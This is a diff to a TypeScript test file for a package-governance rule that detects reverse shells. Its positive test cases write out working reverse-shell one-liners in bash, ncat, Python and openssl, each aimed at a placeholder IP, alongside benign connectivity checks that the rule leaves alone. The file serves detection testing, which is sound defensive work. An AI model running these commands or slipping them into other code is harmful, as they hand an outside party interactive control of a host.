@@ -1,6 +1,7 @@
 import { expect } from 'chai'
 import { reverseShell } from '../../../../consumers/governance/rules/reverse-shell.ts'
 import { findings, packageWith, shell } from '../packages.ts'
+import { handlers, pod, python, ruleCases } from './cases.ts'
 
 const found = (command: string, more: Record<string, unknown> = {}) =>
   findings(reverseShell, packageWith([shell(command, more)]))
@@ -46,4 +47,35 @@ describe('WPK-P3-005 reverse shell', () => {
       expect(found(command, interpreter === undefined ? {} : { interpreter })).to.deep.equal([])
     })
   }
+})
+
+ruleCases(reverseShell, {
+  finds: [
+    'bash -c "exec bash -i &>/dev/tcp/203.0.113.5/443 <&1"',
+    handlers(shell('ncat --exec "/bin/bash -l" 203.0.113.5 8443 --ssl')),
+    python(
+      'import os, pty, socket\ns = socket.socket()\ns.connect(("203.0.113.5", 443))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn("/bin/sh")',
+    ),
+    pod(
+      {},
+      {
+        command: ['sh', '-c'],
+        args: ['mkfifo /tmp/p; sh -i < /tmp/p 2>&1 | openssl s_client -quiet -connect 203.0.113.5:443 > /tmp/p'],
+      },
+    ),
+  ],
+  leaves: [
+    'bash -c "exec 3<>/dev/tcp/db.shop.svc/5432" && echo reached',
+    handlers(shell('ncat -zv --wait 3 db.shop.svc 5432')),
+    python(
+      'import socket\nwith socket.create_connection(("smtp.shop.svc", 25), timeout=3) as s:\n    print(s.recv(100))',
+    ),
+    pod(
+      {},
+      {
+        command: ['sh', '-c'],
+        args: ['openssl s_client -connect shop.example.net:443 </dev/null 2>/dev/null | openssl x509 -noout -enddate'],
+      },
+    ),
+  ],
 })
